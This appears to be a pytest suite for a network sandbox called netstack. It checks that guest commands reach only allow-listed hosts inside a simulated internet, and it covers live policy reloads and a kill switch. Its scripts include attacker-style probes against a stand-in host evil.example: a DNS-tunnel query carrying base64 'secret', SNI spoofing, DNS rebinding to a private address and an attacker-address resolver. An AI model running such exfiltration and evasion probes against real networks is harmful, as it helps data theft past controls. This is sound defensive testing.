"""`netstack guest --allow-net ... -- COMMAND` as a sandbox, and the policy of `netstack run` while it runs.

The Internet is a namespace of this test's own, with public-looking addresses on its loopback: pypi.org is one host, an
attacker's is another. Under a list a test needs addresses that count as public; nothing is sent to the real ones.
"""

from __future__ import annotations

import json
import os
import signal
import subprocess
import sys
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from .lab import Lab, Namespace, Process, wait_until
from .netstack_process import COMMAND, ENVIRONMENT
from .network import HERE, TAP, Network, start_netstack

pytestmark = pytest.mark.guest("ip", "openssl", "curl", "dig", "busybox")

SITE, ATTACKER = "151.101.0.223", "45.33.32.156"
FILES = "151.101.1.63"
NAMES = {"pypi.org": SITE, "files.pythonhosted.org": FILES, "evil.example": ATTACKER, "inside.pypi.org": "10.0.0.7"}


class Outside:
    """The namespace where gateways run, its servers, its resolver."""

    def __init__(self, lab: Lab) -> None:
        self.lab = lab
        self.host: Namespace = lab.namespace("outside")
        for address in (SITE, FILES, ATTACKER):
            self.host.run("ip", "address", "add", f"{address}/32", "dev", "lo")
        if not self.host.sysctl("net.ipv4.ping_group_range", "0 2147483647", check=False):
            self.host.sysctl("net.ipv4.ping_group_range", "0 0")
        self.certificate = lab.directory / "server.pem"
        names = ",".join(f"DNS:{name}" for name in NAMES)
        self.host.sh(
            f"""cd {lab.directory}
            openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:prime256v1 -nodes -days 1 -subj /CN=test \
                -addext subjectAltName={names} -keyout server.key -out server.pem 2>&1"""
        )
        known = [f"{name}={address}" for name, address in NAMES.items()]
        self.dns = self._server("names_authority", "127.0.0.1", "5353", *known)
        self._server(
            "web_server", str(self.certificate), str(lab.directory / "server.key"), "127.0.0.1", SITE, FILES, ATTACKER
        )

    def _server(self, module: str, *arguments: str) -> Process:
        server = self.host.spawn(module, sys.executable, str(HERE / f"{module}.py"), *arguments)
        wait_until(lambda: "ready" in server.log or not server.running, module)
        assert server.running, server.log
        return server

    def asked(self) -> list[str]:
        """What upstream was asked so far: `pypi.org A`."""
        return server_lines(self.dns)


def server_lines(server: Process) -> list[str]:
    return [line for line in server.log.splitlines() if line != "ready"]


@pytest.fixture(scope="module")
def outside(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Outside]:
    with Lab(tmp_path_factory.mktemp("sandbox")) as lab:
        yield Outside(lab)


Sandbox = Callable[..., subprocess.CompletedProcess[str]]


@pytest.fixture
def sandbox(outside: Outside, tmp_path: Path) -> Sandbox:
    """`sandbox(OPTIONS, SCRIPT)`: run a shell script as `netstack guest OPTIONS -- sh -c SCRIPT`."""
    events = tmp_path / "events.jsonl"

    def run(options: str, script: str, check: bool = True) -> subprocess.CompletedProcess[str]:
        environment = [f"PYTHONPATH={ENVIRONMENT['PYTHONPATH']}", f"CURL_CA_BUNDLE={outside.certificate}"]
        words = ["guest", "--dns-upstream", "127.0.0.1:5353", "--events", str(events), *options.split()]
        return outside.host.run("env", *environment, *COMMAND, *words, "--", "sh", "-uc", script, check=check)

    return run


def events_of(tmp_path: Path, kind: str) -> list[dict[str, object]]:
    lines = (tmp_path / "events.jsonl").read_text().splitlines()
    return [event for event in map(json.loads, lines) if event["event"] == kind]


def test_only_what_is_listed_is_reached(sandbox: Sandbox, outside: Outside, tmp_path: Path) -> None:
    """Every other way out of the same command ends at once, with its own reason."""
    before = len(outside.asked())
    done = sandbox(
        "--allow-net pypi.org",
        f"""
        echo listed: $(curl -sS -m 20 https://pypi.org/bytes/5000 | wc -c)
        echo plain: $(curl -sS -m 20 http://pypi.org/bytes/3000 | wc -c)
        curl -sS -m 20 https://evil.example/peer; echo unlisted: $?
        echo sinkhole: $(dig +short evil.example)
        curl -sSk -m 20 https://{ATTACKER}/peer; echo address: $?
        curl -sSk -m 20 --resolve evil.example:443:{ATTACKER} https://evil.example/peer; echo sni: $?
        curl -sS -m 20 --resolve evil.example:80:{SITE} http://evil.example/peer
        curl -sS -m 20 --resolve pypi.org:443:{ATTACKER} https://pypi.org/peer
        curl -sS -m 20 telnet://{SITE}:22; echo port: $?
        dig +short TXT c2VjcmV0.evil.example; echo tunnel: $?
        dig +time=2 +tries=1 @{ATTACKER} pypi.org >/dev/null; echo resolver: $?
        ping -c1 -W2 {SITE} >/dev/null; echo ping: $?
        """,
    )
    said = done.stdout.splitlines()
    assert said[:2] == ["listed: 5000", "plain: 3000"]
    assert "unlisted: 7" in said, "0.0.0.0 is this host, and nobody listens there"
    assert "sinkhole: 0.0.0.0" in said
    assert "address: 35" in said, "no name in the hello: the TLS handshake fails"
    assert "sni: 35" in said
    refused = next(line for line in said if "evil.example" in line and "netstack" in line)
    assert "no rule" in refused
    assert f"{SITE} " in done.stdout, "a listed name's SNI reaches the listed name, whatever address was dialled"
    assert f"{ATTACKER} " not in done.stdout
    assert "port: 7" in said
    assert said[-3:] == ["tunnel: 0", "resolver: 9", "ping: 1"]
    assert {line.split()[0] for line in outside.asked()[before:]} == {"pypi.org"}, "no other name left"
    refusals = {(event["step"], event["reason_code"], event["told"]) for event in events_of(tmp_path, "flow_refused")}
    assert refusals == {
        ("tls", "no-name", "alert"),
        ("tls", "name-not-allowed", "alert"),
        ("http", "name-not-allowed", "forbidden"),
        ("syn", "no-rule", "reset"),
        ("datagram", "no-rule", "unreachable"),
        ("echo", "no-rule", "unreachable"),
    }
    dialled = {event["dialled"].split(":")[0] for event in events_of(tmp_path, "flow_opened")}
    assert dialled == {SITE}


@pytest.mark.parametrize("answers", ["real", "synthetic"])
def test_programs_of_all_kinds(sandbox: Sandbox, outside: Outside, answers: str) -> None:
    """curl, busybox wget, OpenSSL with a post-quantum key share, Python: all find what is listed and nothing else."""
    done = sandbox(
        f"--allow-net pypi.org,*.pythonhosted.org --dns-answers {answers}",
        f"""
        curl -sSf -m 20 https://files.pythonhosted.org/bytes/70000 | wc -c
        busybox wget -qO- http://pypi.org/bytes/60000 | wc -c
        export SSL_CERT_FILE={outside.certificate}
        echo | openssl s_client -connect pypi.org:443 -brief 2>&1 | grep -c Verification:.OK
        {sys.executable} -c '
import urllib.request
print(len(urllib.request.urlopen("https://pypi.org/bytes/50000", timeout=20).read()))
try:
    urllib.request.urlopen("https://evil.example/peer", timeout=20)
except OSError as error:
    print("refused")
'
        busybox wget -qO- http://pythonhosted.org/peer >/dev/null 2>&1; echo apex: $?
        """,
    )
    assert done.stdout.split() == ["70000", "60000", "1", "50000", "refused", "apex:", "1"], done.stderr


def test_rebinding_leads_nowhere(sandbox: Sandbox, outside: Outside, tmp_path: Path) -> None:
    """A listed name whose server says 10.0.0.7: removed from the answer, and not dialled by name either."""
    done = sandbox(
        "--allow-net *.pypi.org",
        f"""
        dig +short inside.pypi.org
        curl -sS -m 20 --resolve inside.pypi.org:80:{SITE} http://inside.pypi.org/peer
        """,
    )
    assert "10.0.0.7" not in done.stdout
    assert "private-address" in done.stdout, "the 403 says why"
    (refused,) = events_of(tmp_path, "flow_refused")
    assert (refused["step"], refused["reason_code"]) == ("dial", "private-address")
    assert events_of(tmp_path, "flow_opened") == []


def test_addresses_ports_and_groups(sandbox: Sandbox) -> None:
    done = sandbox(
        f"--allow-net {SITE}:80 --allow-net tcp/{FILES}/32 --allow-net @host:443",
        f"""
        curl -sSf -m 20 http://{SITE}/bytes/10 | wc -c
        curl -sS -m 20 https://{SITE}/peer; echo $?
        curl -sSfk -m 20 https://{FILES}/bytes/20 | wc -c
        curl -sSfk -m 20 https://192.168.127.254/bytes/30 | wc -c
        curl -sS -m 20 http://192.168.127.254/peer; echo $?
        """,
        check=False,
    )
    assert done.stdout.split() == ["10", "7", "20", "30", "7"], done.stderr


def test_a_name_on_another_port_is_reached_at_the_address_that_dns_gave(sandbox: Sandbox, outside: Outside) -> None:
    listener = outside.host.listen(SITE, 2222)
    other = outside.host.listen(ATTACKER, 2222)
    with listener, other:
        done = sandbox(
            "--allow-net pypi.org:2222",
            f"""
            exec 2>/dev/null
            curl -sS -m 20 telnet://{SITE}:2222 </dev/null; echo unasked: $?
            {sys.executable} -c 'import socket; socket.create_connection(("pypi.org", 2222), 20)'; echo asked: $?
            curl -sS -m 20 telnet://{ATTACKER}:2222 </dev/null; echo elsewhere: $?
            """,
        )
        listener.settimeout(0.1)
        listener.accept()[0].close()
    assert done.stdout.splitlines() == ["unasked: 7", "asked: 0", "elsewhere: 7"]


@pytest.mark.parametrize("option", ["--deny-all", "--network disabled", "--network DISABLED"])
def test_nothing_at_all(sandbox: Sandbox, outside: Outside, tmp_path: Path, option: str) -> None:
    """The command runs, its card is there, and no question of its leaves."""
    before = len(outside.asked())
    disabled = "disabled" in option.lower()
    done = sandbox(
        option,
        f"""
        ip -4 -o address show dev eth0 | grep -c 192.168.127.2
        curl -sS -m 20 http://{SITE}/peer >/dev/null 2>&1; echo $?
        dig +short +time={1 if disabled else 20} +tries=1 pypi.org >/dev/null; echo $?
        exit 5
        """,
        check=False,
    )
    assert done.returncode == 5
    assert done.stdout.split() == ["1", "7", "9" if disabled else "0"]
    assert len(outside.asked()) == before
    refused = [event["reason_code"] for event in events_of(tmp_path, "flow_refused")]
    assert refused == ([] if disabled else ["no-rule"])


HOOK = """
from netstack.hooks import Hooks, allow, refuse

class OnlyFiles(Hooks):
    async def on_flow(self, flow):
        if flow.name == "pypi.org":
            return refuse("not-today")
        if flow.port == 8080:
            return allow()
"""


@pytest.mark.parametrize("may_allow", [False, True])
def test_a_hook_has_its_say(sandbox: Sandbox, outside: Outside, tmp_path: Path, may_allow: bool) -> None:
    (tmp_path / "hook.py").write_text(HOOK)
    with outside.host.listen(SITE, 8080):
        done = sandbox(
            f"--allow-net pypi.org,*.pythonhosted.org --hook {tmp_path}/hook.py{' --hook-may-allow' * may_allow}",
            f"""
            curl -sSf -m 20 https://files.pythonhosted.org/bytes/10 | wc -c
            curl -sS -m 20 http://pypi.org/peer
            curl -sS -m {1 if may_allow else 20} http://{SITE}:8080/ 2>/dev/null; echo $?
            """,
        )
    said = done.stdout.splitlines()
    assert (said[0], said[-1]) == ("10", "28" if may_allow else "7")
    assert "not-today" in said[1]
    reasons = [event["reason_code"] for event in events_of(tmp_path, "flow_refused")]
    assert reasons == ["not-today"] + ["no-rule"] * (not may_allow)


def test_superfluous_and_useless_rules_are_told_at_the_start(sandbox: Sandbox) -> None:
    done = sandbox("--allow-net *.pypi.org,a.pypi.org,169.254.169.254", "true")
    assert len(done.stderr.splitlines()) == 2
    assert all(line.startswith("netstack: allow_net rule") for line in done.stderr.splitlines())


# -- while it runs ---------------------------------------------------------------------------------------------------


@pytest.fixture
def running(outside: Outside, tmp_path: Path) -> Iterator[Callable[..., Network]]:
    """`running(OPTIONS)`: a guest on a TAP of `netstack run OPTIONS`."""
    made: list[Network] = []

    def start(*options: str) -> Network:
        number = len(outside.lab.processes)
        guest = outside.lab.namespace(f"guest-{number}")
        arguments = ["--tap", TAP, "--netns", guest.path]
        gateway = start_netstack(outside.host, f"netstack-{number}", *arguments, options=options)
        network = Network(outside, TAP, guest, gateway)  # type: ignore[arg-type]  # of the world it needs the host only
        network.configure()
        made.append(network)
        return network

    yield start
    for network in made:
        network.close()


def fetches(network: Network, name: str, address: str) -> bool:
    """Whether the guest gets a page by that name, with a new connection."""
    url = ["--resolve", f"{name}:80:{address}", f"http://{name}/bytes/10"]
    done = network.guest.run("curl", "-s", "-m", "20", "-o", "/dev/null", "-w", "%{http_code}", *url, check=False)
    assert done.stdout in ("200", "403", "000"), done.stdout
    return done.stdout == "200"


def replaced(network: Network, count: int) -> list[dict[str, object]]:
    """The `policy_replaced` events, once there are that many."""
    wait_until(lambda: len(network.gateway.events("policy_replaced")) >= count, "the policy to be replaced")
    return network.gateway.events("policy_replaced")


def test_i5_i6_reload_kill_switch_and_back(running: Callable[..., Network], outside: Outside, tmp_path: Path) -> None:
    """Conformance I5, I6: live flows that the new policy refuses are reset, the others live on."""
    policy = tmp_path / "policy.yaml"
    policy.write_text(f"policy:\n  allow_net:\n    - pypi.org\n    - {FILES}:9000\n    - {ATTACKER}:9000\n")
    listeners = outside.host.listen(FILES, 9000), outside.host.listen(ATTACKER, 9000)
    with listeners[0], listeners[1]:
        network = running("--config", str(policy))
        process = network.gateway.process
        assert fetches(network, "pypi.org", SITE)
        assert not fetches(network, "evil.example", SITE)
        kept, lost = network.guest.connect(FILES, 9000), network.guest.connect(ATTACKER, 9000)
        there = listeners[0].accept()[0]

        policy.write_text(f'policy: {{allow_net: ["evil.example", "{FILES}:9000"]}}\n')
        process.signal(signal.SIGHUP)
        assert replaced(network, 1)[0] | {"time": ""} == {
            "time": "", "event": "policy_replaced", "generation": 2, "why": "reload", "access": "listed", "rules": 2,
        }  # fmt: skip
        assert not fetches(network, "pypi.org", SITE)
        with pytest.raises(ConnectionResetError):
            lost.recv(1)
        kept.sendall(b"still here")
        assert there.recv(100) == b"still here"

        policy.write_text("policy: {allow_net: [pypi.org, 10.0.0.1/8]}\n")
        process.signal(signal.SIGHUP)
        wait_until(lambda: "the policy in force stays" in process.log, "the refusal of a bad file")
        assert "'10.0.0.0/8'" in process.log, "the nearest right rule is named"
        kept.sendall(b"and here")
        assert there.recv(100) == b"and here"

        process.signal(signal.SIGUSR2)
        assert replaced(network, 2)[1]["access"] == "nothing"
        with pytest.raises(ConnectionResetError):
            kept.recv(1)
        with pytest.raises(ConnectionResetError):
            there.recv(1)
        policy.write_text("policy: {allow_net: [pypi.org]}\n")
        process.signal(signal.SIGHUP)
        wait_until(lambda: "stays on until SIGUSR1" in process.log, "the word on the kill switch")
        assert not fetches(network, "pypi.org", SITE)
        process.signal(signal.SIGUSR1)
        assert replaced(network, 3)[2]["generation"] == 4
        assert fetches(network, "pypi.org", SITE)
        kept.close(), lost.close(), there.close()
    refused = [event for event in network.gateway.events("flow_refused") if event["step"] == "replaced"]
    assert [event["reason_code"] for event in refused] == ["no-rule", "no-rule"]


def test_switching_the_network_off_and_on(running: Callable[..., Network], tmp_path: Path) -> None:
    """`disabled` is a card that carries no frame; it can be switched live, and the card stays."""
    policy = tmp_path / "policy.yaml"
    policy.write_text("policy: disabled\n")
    network = running("--config", str(policy))
    guest = network.guest
    assert guest.run("ping", "-c1", "-W1", network.addresses.gateway, check=False).returncode != 0
    policy.write_text("policy:\n  network: Enabled\n")
    network.gateway.process.signal(signal.SIGHUP)
    assert replaced(network, 1)[0]["access"] == "full"
    wait_until(
        lambda: guest.run("ping", "-c1", "-W1", network.addresses.gateway, check=False).returncode == 0, "the network"
    )
    policy.write_text("policy:\n  network: DISABLED\n")
    network.gateway.process.signal(signal.SIGHUP)
    assert replaced(network, 2)[1]["access"] == "disabled"
    assert guest.run("ping", "-c1", "-W1", network.addresses.gateway, check=False).returncode != 0
    assert TAP in guest.run("ip", "link", "show", "up").stdout, "the card stays"


def test_a_guest_command_is_cut_off_by_a_signal_too(outside: Outside, tmp_path: Path) -> None:
    """SIGHUP is the command's; SIGUSR2 and SIGUSR1 are the gateway's."""
    script = f"""
    curl -sSf -m 20 http://{SITE}/bytes/10 >/dev/null && echo open
    read line; curl -sSf -m 20 http://{SITE}/bytes/10 >/dev/null || echo shut
    read line; until curl -sf -m 20 http://{SITE}/bytes/10 >/dev/null; do sleep 0.05; done; echo open again
    """
    read_end, write_end = os.pipe()
    process = outside.host.spawn("guest", *COMMAND, "guest", "--", "sh", "-uc", script, env=ENVIRONMENT, stdin=read_end)
    os.close(read_end)
    with os.fdopen(write_end, "wb", buffering=0) as pipe:
        wait_until(lambda: "open" in process.log, "the command")
        process.signal(signal.SIGUSR2)
        wait_until(lambda: "kill switch" in process.log, "the kill switch")
        pipe.write(b"\n")
        wait_until(lambda: "shut" in process.log, "the refusal")
        process.signal(signal.SIGUSR1)
        pipe.write(b"\n")
        assert process.wait() == 0
    assert process.log.splitlines()[-1] == "open again"
